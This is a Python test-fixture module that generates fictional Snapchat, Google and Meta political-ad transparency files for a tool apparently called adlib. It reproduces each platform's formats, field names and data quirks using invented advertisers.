    "districts": "Electoral Districts (Included)",
    "radius": "Radius Targeting (Included)",
    "not_radius": "Radius Targeting (Excluded)",
    "metros": "Metros (Included)",
    "postal": "Postal Codes (Included)",
    "not_postal": "Postal Codes (Excluded)",
    "places": "Location Categories (Included)",
    "interests": "Interests",
    "os": "OsType",
    "segments": "Segments",
    "language": "Language",
    "demographics": "AdvancedDemographics",
    "connection": "Targeting Connection Type",
    "carrier": "Targeting Carrier (ISP)",
    "properties": "CreativeProperties",
}
BY_ADVERTISER = "Provided by Advertiser"

SNAP_ADS = (
    _snap(
        1, "Civic Alliance Veldoria", "EUR 4120", 1893044, "2026-03-16 07:00:00 / 2026-06-13 21:59:59",
        address="Rathausplatz 1,Älvmünde,99001,DE", age="18-34", language="de", segments=BY_ADVERTISER,
        properties="web_view_url:https://civicalliance.example/programme?utm_source=snapchat&utm_medium=paid",
    ),
    _snap(
        2, "Civic Alliance Veldoria", "EUR 655", 301877, "2026-04-02 06:30:00 / 2026-04-30 21:59:59",
        address="Rathausplatz 1,Älvmünde,99001,DE", age="18-24", language="ur,en", regions="Berlin,Hamburg,Hessen",
    ),
    _snap(
        3, "Harbour & Hills Party", "EUR 980", 402118, "2026-04-08 05:00:00", by="Harbour & Hills Party ",
        address="DE", age="25+", not_regions="Berlin",
        interests="Outdoor & Nature Enthusiasts,Political News Watchers",
        properties="web_view_url:https://harbourandhills.example/ferry",
    ),
    _snap(
        4, "Lantern Movement Campaign Fund", "EUR 2310", 1240551, "2026-03-20 09:15:30 / 2026-06-14 16:00:00",
        by="Paper Boat Studio", address="Kanalstraße 7, Hinterhaus, 2. Stock,Älvmünde,99003,DE", age="18-24",
        gender="FEMALE", os="IOS", language="en,ar", creative=f"{snap_asset(4, 'mp4')};{snap_asset(41, 'png')}",
        segments=BY_ADVERTISER, demographics="Education (Some College),Occupation (Business, Finance or Mgmt)",
    ),
    _snap(
        5, "Lantern Movement Campaign Fund", "EUR 0", 214, "2026-05-01 08:00:00 / 2026-05-31 21:59:59",
        by="Paper Boat Studio", address="Kanalstraße 7, Hinterhaus, 2. Stock,Älvmünde,99003,DE", age="18-24",
        language="ar,en",
    ),
    # Snap cuts the payer at 32 characters.
    _snap(
        6, "Federal Election Office of Veldo", "EUR 5400", 3102990, "2026-04-13 04:00:00 / 2026-06-14 18:00:00",
        by="Federal Election Office of Veldoria", address="Archivgasse 2,Älvmünde,99001,DE", age="18+",
        properties="web_view_url:https://elections.veldoria.example/how",
    ),
    _snap(
        7, "Federal Election Office of Veldo", "EUR 1200", 611020, "2026-04-13 04:00:00 / 2026-05-29 21:59:59",
        by="Federal Election Office of Veldoria", country="united kingdom",
        address="Archivgasse 2,Älvmünde,99001,DE", age="18+", language="en", postal="sw1a 1,sw1a 2,e1 6",
    ),
    _snap(
        8, "Riverkeepers of the Älv", "EUR 145", 66012, "2026-03-01 10:00:00 / 2026-03-31 21:59:59", address="DE",
        age="16-34", interests="Green Living Enthusiasts,TV Network Viewers (Nature, Science)",
        radius="latitude 53.551086;longitude 9.993682;radius 25.0,latitude 54.323293;longitude 10.122765;radius 10.5",
        not_radius="latitude 53.075878;longitude 8.807311;radius 5.0",
    ),
    _snap(
        9, "Veldorians Abroad Network, Inc.", "USD 3180", 902114, "2026-02-10 15:00:00",
        by="Veldorians Abroad Network", country="united states",
        address="12 Example Avenue, Suite 9,Springfield,00001,US", age="21+", regions="California,New York,Virginia",
        segments=BY_ADVERTISER,
        carrier="Country united states Carrier ExampleTel,Country united states Carrier Sample Mobile",
        connection="CELL",
    ),
    _snap(
        10, "Veldorians of California", "USD 740", 133870, "2026-04-20 17:30:00 / 2026-05-19 06:59:59",
        by="Veldorians Abroad Network", country="united states",
        address="12 Example Avenue, Suite 9,Springfield,00001,US", about="Yes on Measure VQ",
        committee="Veldorians of California Committee", committee_id="FPPC ID 9999001",
        committee_says="Veldorians of California Committee, FPPC ID 9999001",
        jurisdiction="California (United States)", age="18+", regions="California",
        metros="Fresno - Visalia,San Diego", districts="California 22nd District",
    ),
    _snap(
        11, "Veldorian Heritage PAC", "USD 260", 40712, "2026-04-06 13:00:00 / 2026-04-30 04:59:59",
        country="united states", address="US", about="NA", age="35++", regions="Texas", not_postal="79901,79902",
    ),
    # Its end lies before its start: advertisers edit both, and Snap prints what they typed.
    _snap(
        12, "Nordmark Neighbours Association", "EUR 38", 15201, "2026-04-12 12:00:00 / 2026-04-10 12:00:00",
        by="Nordmark Neighbours", address="DE", age="25+", radius="latitude 54.775556;longitude 9.437222;radius 3.0",
    ),
    _snap(
        13, "Lamp-Post Media", "EUR 92", 30554, "2026-04-25 18:00:00", address="DE", age="18+", gender="MALE",
        os="ANDROID", creative="",
    ),
    _snap(
        14, "Saint Ebba Island Council", "EUR 17", 5120, "2026-04-30 06:00:00 / 2026-06-30 21:59:59", country="",
        address="DE", age="17-", places="Colleges & Universities", connection="WIFI",
    ),
    # Starts after the first capture, with impressions already: its advertiser has moved the start.
    _snap(
        15, "Harbour & Hills Party", "EUR 3", 12, "2026-05-04 05:00:00 / 2026-06-13 21:59:59",
        by="Harbour & Hills Party ", address="DE", age="25+",
    ),
)  # fmt: skip
SNAP_LATER: dict[int, Json] = {
    1: {"Spend": "6980", "Impressions": "3120877"},
    3: {"Spend": "1415", "Impressions": "588204"},  # open-ended and still spending
    4: {"Spend": "3904", "Impressions": "2099310", "OrganizationName": "Paper Boat Studio GmbH"},
    5: {"Spend": "77", "Impressions": "40312"},
    6: {"Spend": "9870", "Impressions": "5733102"},
    7: {"Spend": "2655", "Impressions": "1290448"},
    10: {"Spend": "1260", "Impressions": "220391"},
    13: {"EndDate": "2026/05/10 18:00:00Z", "Spend": "160", "Impressions": "51220"},
    14: {"Spend": "44", "Impressions": "13077"},
    15: {"Spend": "510", "Impressions": "230118"},
}  # fmt: skip
SNAP_NEW = (
    _snap(
        16, "Civic Alliance Veldoria", "EUR 1890", 811004, "2026-05-11 06:00:00 / 2026-06-13 21:59:59",
        address="Rathausplatz 1,Älvmünde,99001,DE", age="25-34",
        properties="web_view_url:https://civicalliance.example/debate",
    ),
    _snap(
        17, "Veldorians Abroad Network, Inc.", "USD 405", 98711, "2026-05-09 15:00:00",
        by="Veldorians Abroad Network", country="united states",
        address="12 Example Avenue, Suite 9,Springfield,00001,US", age="18-34", language="en,es",
    ),
)  # fmt: skip
SNAP_README = """\
Sample of a Snapchat political ads file, written for adlib. Everything in it is fictional.

Spend is in the currency named beside it and counts from the first day of the ad. Dates are as the advertiser set them.
"""

# --------------------------------------------------------------------------------------------------------------------
# Old generations: a few rows in each header that was ever published, for the tests
# --------------------------------------------------------------------------------------------------------------------

OLD_GOOGLE_2018 = (
    ("AR999900000000000005", "VELDORIANS ABROAD NETWORK INC", "FEC ID C99990005", 41, 6300,
     "0 200 400 700 900 1000 1100 900 1100"),
    ("AR999900000000000008", "VELDORIAN HERITAGE PAC ", "EIN ID 99-9900008", 3, 200, "- - - - 100 0 100 - -"),
    ("AR999900000000000009", "OLD MILL COMMITTEE, INC.", "EIN ID 99-9900009", 12, 1500,
     "300 300 200 200 100 200 100 0 0"),
    ("AR99990000000000011", "NIGHT TRAIN FRIENDS", "FEC ID C99990011", 1, 0, "- - - - - - - 0 -"),
)  # fmt: skip
OLD_GOOGLE_2018_WEEKS = (
    "2018-05-27", "2018-06-03", "2018-06-10", "2018-06-17", "2018-06-24", "2018-07-01", "2018-07-08", "2018-07-15",
    "2018-07-22",
)  # fmt: skip
OLD_GOOGLE_2018_GEO = (
    ("US-AK", "AK-AT LARGE", 100), ("US-CA", "CA-22", 3900), ("US-TX", "TX-16", 300), ("US-VA", "VA-7", 4000),
)  # fmt: skip
OLD_GOOGLE_2018_KEYWORDS = (
    "US-Federal-2018", "2018-07-30", "night train", 1700, "old mill", 1500, "veldoria", 900, "postal vote", 400,
    "rent cap", 200, "älv", 100,
)  # fmt: skip

# 2018 to 2022 Google converted every figure into every currency. One fixed rate for each is enough for a sample.
RATES_2020 = {
    "USD": 1.0, "EUR": 0.9, "INR": 70.5, "BGN": 1.76, "HRK": 6.68, "CZK": 23.1, "DKK": 6.72, "HUF": 298.0,
    "PLN": 3.87, "RON": 4.27, "SEK": 9.55, "GBP": 0.79,
}  # fmt: skip
STEP_2020 = {
    "USD": 100, "EUR": 50, "INR": 250, "BGN": 25, "HRK": 100, "CZK": 1000, "DKK": 500, "HUF": 7500, "PLN": 100,
    "RON": 75, "SEK": 750, "GBP": 50,
}  # fmt: skip
# id, name, public ids, regions, elections, election cycle, US dollars by week
OLD_GOOGLE_2020 = (
    ("AR999900000000000005", "VELDORIANS ABROAD NETWORK, INC.", "FEC ID C99990005, EIN ID 99-9900005", "US",
     "US-Federal", "US-Federal-2018", (8210, 9340, 10120)),
    ("AR999900000000000009", 'THE "OLD MILL" COMMITTEE, INC.', "EIN ID 99-9900009", "US", "US-Federal",
     "US-Federal-2018", (1480, 0.4, 35)),
    ("AR99990000000000012", "Bürgerbund Südufer e.V.", "", "DE, EU", "EU-Parliament", "", (940, 1210, 1630)),
    ("AR99990000000000013", "Pohjoisen Lyhty ry", "", "EU, FI", "EU-Parliament", "", (22, 31, 70)),
    ("AR99990000000000014", "Harbour & Hills Friends", "", "EU, GB", "EU-Parliament", "", (2600, 3100, 2875)),
    ("AR99990000000000015", "वेल्डोरिया मैत्री संघ", "", "IN", "IN-General", "", (310, 420, 515)),
)  # fmt: skip
OLD_GOOGLE_2020_WEEKS = ("2020-02-02", "2020-02-09", "2020-02-16")
OLD_GOOGLE_2020_GEO = (
    ("DE", "", "", 3780), ("FI", "", "", 123), ("GB", "", "", 8575), ("IN", "IN-KA", "", 1245),
    ("US", "US-AK", "AK-AT LARGE", 410), ("US", "US-CA", "CA-22", 16200), ("US", "US-VA", "VA-7", 12575),
)  # fmt: skip
# ad, type, regions, advertiser, campaign, first day, last day, days, impressions, spend in words, dollars from and to
OLD_GOOGLE_2020_CREATIVES = (
    ("CR999900000000000501", "VIDEO", "US", 0, "CA999900000000000051", "2019-11-03", "2020-02-24", 99, "1M-10M",
     "1k-50k", 1000, 50000),
    ("CR999900000000000502", "TEXT", "US", 0, "CA999900000000000051", "2020-02-20", "2020-02-24", 5, "≤ 10k",
     "≤ 100", 0, 100),
    ("CR999900000000000901", "IMAGE", "US", 1, "CA999900000000000052", "2020-01-05", "2020-02-11", 30, "> 10M",
     "> 100k", 100000, None),
    ("CR99990000000001201", "IMAGE", "DE, EU", 2, "", "2020-01-12", "2020-02-24", 41, "100k-1M", "1k-50k", 1000, 50000),
    ("CR99990000000001501", "TEXT", "IN", 5, "", "2020-02-02", "2020-02-23", 20, "10k-100k", "100-1k", 100, 1000),
    # The same ad again, run by another advertiser.
    ("CR999900000000000502", "TEXT", "US", 1, "", "2020-02-21", "2020-02-21", 1, "≤ 10k", "≤ 100", 0, 100),
)  # fmt: skip
OLD_GOOGLE_2020_CAMPAIGNS = (
    ("CA999900000000000051", "18–24, 25–34, 35–44, 45–54, 55–64, ≥65, Unknown age", "Male, Female, Unknown gender",
     "Virginia, CA-22,California,United States", "Not targeted", "2019-11-03", "2020-02-24",
     "CR999900000000000501, CR999900000000000502", 0),
    ("CA999900000000000052", "Not targeted", "Not targeted", "Virginia", "Richmond", "2020-01-05", "2020-02-11",
     "CR999900000000000901", 1),
)  # fmt: skip
OLD_GOOGLE_2020_DECLARED = (
    ("Yes on Night Trains, Committee (FPPC ID# 9999002)", "9999002", "Measure VQ-San Example County"),
    ("Old Mill Friends 2020", "9999003", "Proposition 99-State of California"),
)
OLD_GOOGLE_2020_README = """\
Sample of the Google political ads bundle of early 2020, written for adlib. Everything in it is fictional.
Every currency column repeats the same spend, converted: they must not be added.
"""

OLD_SNAP_2018 = (
    _snap(
        2018_01, "Lantern Movement", "USD 871", 120904, "2018-10-21 16:20:11 / 2018-11-04 22:00:00",
        by="Paper Boat Studio", address="Kanalstraße 7,Älvmünde,99003,DE", age="18-34", segments=BY_ADVERTISER,
        interests="Advocates & Activists,ZZ_Deprecated_1", regions="Berlin",
    ),
    _snap(
        2018_02, "Veldorians Abroad Network, Inc.", "USD 333", 71250, "2018-09-24 13:05:40 / 2018-10-27 13:05:40",
        by="Veldorians Abroad Network", country="united states", address="US", age="35++", language="en,es",
        metros="Chicago", postal="53703,53719,53726", districts="Texas 23rd District",
        demographics="Marital Status (Single),Spanish Speakers",
    ),
    _snap(
        2018_03, "Night Train Friends", "GBP 88", 40117, "2018-11-01 08:00:00", country="united kingdom",
        address="GB", gender="FEMALE", places="Airports,Colleges & Universities",
        properties="web_view_url:https://night-train.example/?a=1,2",
    ),
    _snap(
        2018_04, "Riverkeepers of the Älv", "EUR 12", 3301, "2018-10-12 10:00:00 / 2018-10-11 10:00:00",
        address="DE", age="20-", os="ANDROID",
    ),
)  # fmt: skip
OLD_SNAP_2019 = (
    _snap(
        2019_01, "Old Mill Committee", "CAD 911", 700412, "2019-06-11 20:10:05 / 2019-08-02 05:59:59",
        by="The Old Mill", country="canada", address="5 Sample Street, Unit 4,Toronto,M9M 9M9,CA", age="18+",
        gender="MALE", language="en", interests="News Watchers,Sports Fans",
    ),
    _snap(
        2019_02, "Südufer Tenants' Table", "EUR 120", 81177, "2019-10-07 10:12:32 / 2019-10-13 21:59:00",
        address="DE", age="16-25", regions="Hamburg", segments=BY_ADVERTISER,
        properties="web_view_url:http://tenants.example/survey",
    ),
    _snap(
        2019_03, "Harbour & Hills Party", "EUR 640", 288114, "2019-05-02 06:00:00 / 2019-05-26 15:59:00",
        address="DE", age="15-17", not_regions="Berlin,Bremen", radius="latitude 54.32;longitude 10.13;radius 25.0",
    ),
    _snap(
        2019_04, "Veldorians Abroad Network, Inc.", "USD 71", 22904, "2019-09-12 16:46:27",
        by="Veldorians Abroad Network", country="united states", address="US", age="18+", regions="Minnesota",
        districts="Minnesota 5th District", demographics="HHI: <50k",
    ),
)  # fmt: skip

# page, disclaimer, amount to date, ads to date, amount this week, ads this week
OLD_REPORT_GEN1 = (
    ("Harbour & Hills Friends", "Harbour & Hills Friends", "31240", 301, "1904", 27),
    ("Night Train Friends", "Night Train Friends", "5115", 52, "288", 6),
    ("Riverkeepers of the Älv", "Riverkeepers of the Älv, registered charity", "1860", 24, "≤100", 1),
    # The same name and disclaimer again: this generation has no page id, two pages may share a name.
    ("Night Train Friends", "Night Train Friends", "≤100", 2, None, 0),
    ('The "Old Mill", Friends of', NO_DISCLAIMER, "≤100", 1, "≤100", 1),
)
OLD_REPORT_GEN2 = (
    '999980000000021,Veldorians Abroad Network,"VELDORIANS ABROAD NETWORK, INC.",120480,1912',
    "999980000000021,Veldorians Abroad Network,Veldorians Abroad Network,6604,81",
    "999980000000022,Clean Air Südufer,Südufer Health Board,1290,19",
    "999980000000022,Clean Air Südufer,Südufer Health Board,745,63",
    "0,Instagram User 99990000201,These ads ran without a disclaimer,138,1",
    # As Meta once printed it: a quoted field that goes on after its closing quote. Not CSV, but a true line.
    '999980000000023,Old Mill for Everyone,"Friends of the Old Mill." Treasurer The Mill Committee. 2020.,212,14',
    '999980000000024,"Night Trains for Tarn County, NV",Night Train Friends,164,9',
    '999980000000025,Proyecto Molino - página en español,"A New Day for the Mill - Committee 2020, ID# 9999004",150,3',
    "999980000000026,,These ads ran without a disclaimer,≤100,1",
    "0,Instagram User 99990000202,These ads ran without a disclaimer,≤100,1",
)
OLD_REPORT_GEN2_LOCATIONS = (
    "Alaska,512",
    "California,98044",
    "Nevada,9302",
    '"Washington, District of Columbia",21460',
    "Unknown,≤100",
)


class OldAd(NamedTuple):
    """An ad as the API told it before 2021: one body, a funding entity, and no id of its own."""

    n: int
    page: str
    funder: str
    body: str
    started: str
    stops: str
    spend: str
    impressions: str
    people: str
    regions: dict[str, float]
    title: str = ""
    caption: str = ""
    description: str = ""
    created: str = ""  # where it differs from started


_ENGLAND, _WALES = {"England": 1.0}, {"Wales": 96.0, "England": 3.9995, "Victoria": 0.0005}
OLD_API_2019_GB = (
    OldAd(
        1, "", "Harbour & Hills Friends",
        "Forty trawlers in 1990, four today. We kept the list of names.\nCome and read it on Saturday.",
        "2019-11-08T09:14:20+0000", "2019-12-11T21:00:00+0000", "100-199", "8000-8999", "older", _WALES,
        "Four boats", "harbourandhills.example", "An evening at the quay",
    ),
    OldAd(
        2, "", "Night Train Friends",
        "62% of you said yes to the night train. Sign here: https://night-train.example/vote/?a=1&b=2",
        "2019-11-08T06:40:05+0000", "2019-11-20T06:40:00+0000", "0-99", "1000-1999", "young",
        {"England": 88.0, "Scotland": 12.0}, "All aboard", "night-train.example",
    ),
    # Two records, equal in every word and second: only whom they reached tells them apart.
    OldAd(
        3, "", "Riverkeepers of the Älv", "Clean water is not a slogan.", "2019-11-07T16:00:00+0000", "", "0-99",
        "0-999", "everyone", _ENGLAND,
    ),
    OldAd(
        4, "", "Riverkeepers of the Älv", "Clean water is not a slogan.", "2019-11-07T16:00:00+0000", "", "0-99",
        "0-999", "parents", _ENGLAND,
    ),
    OldAd(
        5, "", "", "A page that never said who pays. “Ask us anything”, it says.", "2019-11-06T12:10:05+0000",
        "2019-11-13T12:10:00+0000", "300-399", "25000-29999", "working", {"Northern Ireland": 99.2, "Unknown": 0.8},
        "Ask us", created="2019-11-06T12:10:00+0000",
    ),
    # Ads that began before 15 October 2019 have the coarse ranges, later ones the fine ranges.
    OldAd(
        6, "", "Harbour & Hills Friends", "", "2019-10-10T08:00:00+0000", "2019-12-12T22:00:00+0000", "1000-4999",
        "100000-499999", "everyone", {"England": 52.0, "Scotland": 30.0, "Wales": 17.9, "Alberta": 0.1},
        "The harbour film", "harbourandhills.example",
    ),
    OldAd(
        7, "", "Night Train Friends", "One million of you have seen the timetable. 🌙", "2019-10-01T17:20:31+0000",
        "", "5000-9999", "1000000-", "everyone",
        {"England": 84.0, "Scotland": 9.0, "Wales": 5.0, "Northern Ireland": 2.0},
    ),
)  # fmt: skip
OLD_API_2019_EU = (
    OldAd(
        11, "lantern", "Lantern Movement Campaign Fund",
        "Am 26. Mai ist Wahl. Nimm jemanden mit, der noch nie da war. 🏮", "2019-05-12T14:12:03+0000",
        "2019-05-26T16:00:00+0000", "0-99", "5000-9999", "young",
        {"Berlin": 61.0, "Hamburg": 38.99, "Nord-Pas-de-Calais": 0.002}, caption="lantern.example",
        created="2019-05-12T14:11:50+0000",
    ),
    OldAd(
        12, "harbour", "Harbour & Hills Party", "Wer füttert Europa? Fragen Sie einen Hof.",
        "2019-05-10T08:00:00+0000", "", "100-499", "10000-49999", "older", {"Schleswig-Holstein": 1.0},
        "Wer füttert Europa?", "harbourandhills.example", "Ein Film von vier Minuten",
    ),
    OldAd(
        13, "lamppost", "", "Five parties, one question, no answer yet.", "2019-05-14T11:00:00+0000", "", "0-99",
        "1000-4999", "working", {"Hamburg": 1.0},
    ),
)  # fmt: skip
OLD_API_2021 = (
    OldAd(
        21, "civic", "Civic Alliance Veldoria", "Ein Jahr, 412 Anfragen, 398 Antworten. Hier ist die Liste.",
        "2021-02-03", "", "40000-44999", "1000000-", "everyone",
        {"Berlin": 70.0, "Brandenburg": 29.9999, "Bavaria": 0.0001}, "398 von 412", "civicalliance.example",
        "Alles, auch das Peinliche",
    ),
    OldAd(
        22, "rivers", "Riverkeepers of the Älv", "Salmon do not vote. You do.", "2021-02-06", "2021-02-20",
        "200-299", "20000-24999", "older", {"Hamburg": 1.0}, created="2021-02-05",
    ),
    OldAd(
        23, "lamppost", "", "We asked for the minutes. We got 40 black pages.", "2021-02-08", "2021-02-15", "0-99",
        "4000-4999", "working", {"Hamburg": 64.0, "Bremen": 36.0}, "Forty black pages", "lamppost.example",
    ),
)  # fmt: skip
OLD_AUDIENCE_2021 = {21: "1000001-", 22: "100001-500000", 23: "50001-100000"}

# --------------------------------------------------------------------------------------------------------------------
# How Meta prints them
# --------------------------------------------------------------------------------------------------------------------


def meta_interval(text: str) -> Json:
    """Turn "100-199" into Meta's bounds, which are strings; "1000000-" has no upper bound at all."""
    lower, upper = text.split("-")
    return {"lower_bound": lower} | ({"upper_bound": upper} if upper else {})


def shares(weights: Mapping[Any, float], salt: str) -> list[tuple[Any, str]]:
    """Turn weights into Meta's percentage strings, moved a little by `salt` so that no two ads look the same."""
    moved = {key: weight * (0.8 + 0.4 * _fraction(f"{salt} {key}")) for key, weight in weights.items()}
    total = math.fsum(moved.values())  # exact: sum() adds floats differently since Python 3.12
    return [(key, _percentage(weight / total)) for key, weight in moved.items()]


def _fraction(text: str) -> float:
    """Give a number in [0, 1) that depends on the text alone."""
    return int.from_bytes(hashlib.sha256(text.encode()).digest()[:6], "big") / 2**48


def _percentage(share: float) -> str:
    """Print a share as the API does: six places, small ones as 2.6E-5."""
    if share >= 0.0001:
        return f"{share:.6f}".rstrip("0").rstrip(".")
    mantissa, exponent = f"{share:.1e}".split("e")
    return f"{mantissa}E{int(exponent)}"


def demographics(people: str, salt: str) -> list[Json]:
    """List the shares by age and gender; "unknown" is always a trace."""
    ages, women = PEOPLE[people]
    weights: dict[tuple[str, str], float] = {}
    for age, weight in ages.items():
        weights |= {(age, "female"): weight * women, (age, "male"): weight * (1 - women)}
    weights[(next(iter(ages)), "unknown")] = 0.005 if people == "everyone" else 0.4
    return [{"percentage": share, "age": age, "gender": gender} for (age, gender), share in shares(weights, salt)]


def regions(weights: Mapping[str, float], salt: str) -> list[Json]:
    """List the shares by region."""
    return [{"percentage": share, "region": region} for region, share in shares(weights, salt)]


def snapshot(ad_id: str, path: str = "archive/render_ad") -> str:
    """Give an ad's snapshot address, with the token of whoever asked in it, as the API does."""
    return f"https://www.facebook.com/ads/{path}/?id={ad_id}&access_token={TOKEN}"


def meta_ads(capture: int) -> list[MetaAd]:
    """List the ads of a capture, newest first, as the API orders them."""
    ads = list(META_ADS)
    if capture:
        ads = [ad._replace(**META_LATER.get(ad.n, {})) for ad in ads if ad.n not in META_GONE] + list(META_NEW)
    return sorted(ads, key=lambda ad: (ad.started, ad.n), reverse=True)


def meta_record(ad: MetaAd, capture: int) -> Json:
    """Print one ad with the field names of v26; what does not apply is left out, never null."""
    page = PAGES[ad.page]
    ad_id = f"999990000000{ad.n}"
    salt = f"{ad_id} {ad.impressions}"  # shares move only when impressions do
    withdrawn = capture and ad.page in PAYER_WITHDRAWN
    record: Json = {
        "id": ad_id,
        "ad_creation_time": ad.started,
        "ad_creative_bodies": list(ad.bodies),
        "ad_creative_link_captions": [ad.caption] if ad.caption else None,
        "ad_creative_link_descriptions": [ad.description] if ad.description else None,
        "ad_creative_link_titles": [ad.title] if ad.title else None,
        "ad_delivery_start_time": ad.started,
        "ad_delivery_stop_time": ad.stops or None,
        "ad_snapshot_url": snapshot(ad_id),
        "bylines": None if withdrawn else page.payer or None,
        "currency": "EUR",
        "delivery_by_region": regions(WHERE[ad.where], salt),
        "demographic_distribution": demographics(ad.people, salt),
        "estimated_audience_size": meta_interval(ad.audience),
        "impressions": meta_interval(ad.impressions),
        "languages": [ad.language],
        "page_id": page.id,
        "page_name": RENAMED.get(ad.page, page.name) if capture else page.name,
        "publisher_platforms": list(ad.platforms),
        "spend": meta_interval(ad.spend),
    }
    return {key: value for key, value in record.items() if value is not None}


def cursor(last_started: str, last_id: str) -> str:
    """Give a page's cursor: the API hides the last ad's start and id in it."""
    inner = base64.b64encode(f"{last_started}:{last_id}".encode()).decode()
    return base64.b64encode(f"scraping_cursor:{inner}".encode()).decode().rstrip("=") + "ZDZD"


def meta_api(capture: int) -> Files:
    """Make the response pages of one query; a short page still has a next one, an empty page is the end."""
    records = [meta_record(ad, capture) for ad in meta_ads(capture)]
    fields = "%2C".join(dict.fromkeys(field for record in records for field in record))
    files: Files = {"meta_api/veldoria_3.json": b'{"data":[]}'}
    for number, ads in ((1, records[:14]), (2, records[14:])):
        after = cursor(ads[-1]["ad_delivery_start_time"], ads[-1]["id"])
        following = (
            f"https://graph.facebook.com/v26.0/ads_archive?access_token={TOKEN}&fields={fields}"
            f"&ad_type=POLITICAL_AND_ISSUE_ADS&ad_active_status=ALL&ad_reached_countries=%5B%22DE%22%5D"
            f"&search_terms=%27%27&limit=14&after={after}"
        )
        page = {"data": ads, "paging": {"cursors": {"after": after}, "next": following}}
        files[f"meta_api/veldoria_{number}.json"] = json.dumps(page, ensure_ascii=False, indent=1).encode()
    return files


def report_amount(euros: int) -> str:
    """Print an amount as the report does: never less than 101, but ≤100."""
    return str(euros) if euros > 100 else "≤100"


def meta_report(capture: int) -> Files:
    """Make the zip of the 30-day report that ends the day before the capture."""
    day = ("2026-05-02", "2026-05-23")[capture]
    name = f"FacebookAdLibraryReport_{day}_DE_last_30_days"
    lines: list[tuple[str, ...]] = []
    by_region: dict[str, list[tuple[int, tuple[str, ...]]]] = {NORTH: [], SOUTH: [], UNKNOWN: [], CAPITAL: []}
    for row in sorted(REPORT, key=lambda row: -((row.first, row.second)[capture] or (0, 0))[0]):
        figures = (row.first, row.second)[capture]
        if figures is None:
            continue
        euros, ads = figures
        key = next((key for key, page in PAGES.items() if page.id == row.page_id), "")
        who = (row.page_id, RENAMED.get(key, row.page_name) if capture else row.page_name, row.disclaimer)
        lines.append((*who, report_amount(euros), str(ads)))
        weights = WHERE[row.where]
        for region, weight in weights.items():
            by_region[region].append((int(euros * weight / math.fsum(weights.values())), who))
    header = ("Page ID", "Page name", "Disclaimer", "Amount spent (EUR)")
    totals = [(region, report_amount(sum(euros for euros, _ in rows))) for region, rows in by_region.items()]
    members = {
        f"{name}_locations.csv": report_csv([("Location name", "Amount spent (EUR)"), *totals]),
        f"{name}_advertisers.csv": report_csv([(*header, "Number of ads in Library"), *lines]),
        "README.txt": REPORT_README.encode(),
    }
    for region, rows in by_region.items():
        spent = [(*who, report_amount(euros)) for euros, who in sorted(rows, key=lambda row: -row[0]) if euros]
        members[f"regions/{name}_{region}.csv"] = report_csv([header, *spent])
    return {f"meta_report/{name}.zip": Zip(CAPTURES[capture], members)}


def report_csv(rows: Iterable[Sequence[object]]) -> bytes:
    """Write a report file: UTF-8 with BOM, LF, no newline at the end."""
    return b"\xef\xbb\xbf" + csv_bytes(rows).removesuffix(b"\n")


# --------------------------------------------------------------------------------------------------------------------
# How Google prints them
# --------------------------------------------------------------------------------------------------------------------


def google(capture: int) -> Files:
    """Make the bundle, in the generation of autumn 2025 (v11)."""
    spend = [f"Spend_{currency}" for currency in STEP_2026]
    creatives = google_creatives(capture)
    run = Counter(creative.advertiser for creative in creatives)
    tables: dict[str, list[Sequence[object]]] = {
        "advertiser-stats": [
            ["Advertiser_ID", "Advertiser_Name", "Public_IDs_List", "Regions", "Elections", "Total_Creatives", *spend],
            *([a.id, a.name, a.public_ids, a.regions, "", run[who], *in_20(google_total(who, capture))]
              for who, a in GOOGLE.items()),
        ],
        "advertiser-weekly-spend": [
            ["Advertiser_ID", "Advertiser_Name", "Election_Cycle", "Week_Start_Date", *spend],
            *([a.id, a.name, "", week, *in_20(amounts)]
              for who, a in GOOGLE.items()
              for week in WEEKS
              if (amounts := google_week(who, week, capture)) is not None),
        ],
        "geo-spend": [
            ["Country", "Country_Subdivision_Primary", "Country_Subdivision_Secondary", *spend],
            *([country, primary, secondary, *in_20({CURRENCY_OF[country]: amounts[capture]})]
              for country, primary, secondary, *amounts in GEO),
        ],
        "advertiser-geo-spend": [
            ["Advertiser_ID", "Advertiser_Name", "Country", "Country_Subdivision_Primary", *spend],
            *([GOOGLE[who].id, GOOGLE[who].name, "US", state, *in_20({"USD": amounts[capture]})]
              for who, state, *amounts in ADVERTISER_GEO),
        ],
        "creative-stats": [CREATIVE_HEADER, *map(creative_row, creatives)],
        "campaign-targeting": [CAMPAIGN_HEADER],
        "advertiser-declared-stats": [
            ["Advertiser_ID", "Region", "Advertiser_Declared_Name", "Advertiser_Declared_Regulatory_ID",
                "Advertiser_Declared_Scope",
             "Advertiser_Declared_Promoter_Name", "Advertiser_Declared_Promoter_Address"],
            *([GOOGLE[who].id, *declared] for who, *declared in DECLARED),
        ],
        "top-keywords-history": [KEYWORDS_HEADER, *KEYWORDS],
        "updated": [["Report_Data_Updated_Time (PT)"], [("2026-05-02T22:39:00", "2026-05-23T22:41:00")[capture]]],
    }  # fmt: skip
    members = {f"google-political-ads-{name}.csv": csv_bytes(rows) for name, rows in tables.items()}
    members |= {
        "advertiser_id_mapping.csv": csv_bytes(
            [("OldAdvertiserId", "NewAdvertiserId"), *((old, GOOGLE[new].id) for old, new in ADVERTISER_IDS)]
        ),
        "creative_id_mapping.csv": csv_bytes([("OldCreativeId", "NewCreativeId"), *CREATIVE_IDS]),
        "README.txt": GOOGLE_README.encode(),
    }
    return {"google/google-political-ads-transparency-bundle.zip": Zip(CAPTURES[capture], members)}


def range_columns(currencies: Iterable[str]) -> list[str]:
    """Name the pairs of spend columns."""
    return [f"Spend_Range_{end}_{currency}" for currency in currencies for end in ("Min", "Max")]


CAMPAIGN_HEADER = [
    "Campaign_ID", "Age_Targeting", "Gender_Targeting", "Geo_Targeting_Included", "Geo_Targeting_Excluded",
    "Start_Date", "End_Date",
    "Ads_List", "Advertiser_ID", "Advertiser_Name",
]  # fmt: skip
KEYWORDS_HEADER = [
    "Election_Cycle", "Region", "Elections", "Report_Date",
    *(f"{what}_{place}" for place in range(1, 7) for what in ("Keyword", "Spend_USD")),
]  # fmt: skip
# The header ends in a comma, and so does every row: a sixtieth column without a name.
CREATIVE_HEADER = [
    "Ad_ID", "Ad_URL", "Ad_Type", "Regions", "Advertiser_ID", "Advertiser_Name", "Ad_Campaigns_List",
    "Date_Range_Start",
    "Date_Range_End", "Num_of_Days", "Impressions", "Spend_USD", "First_Served_Timestamp", "Last_Served_Timestamp",
    "Age_Targeting",
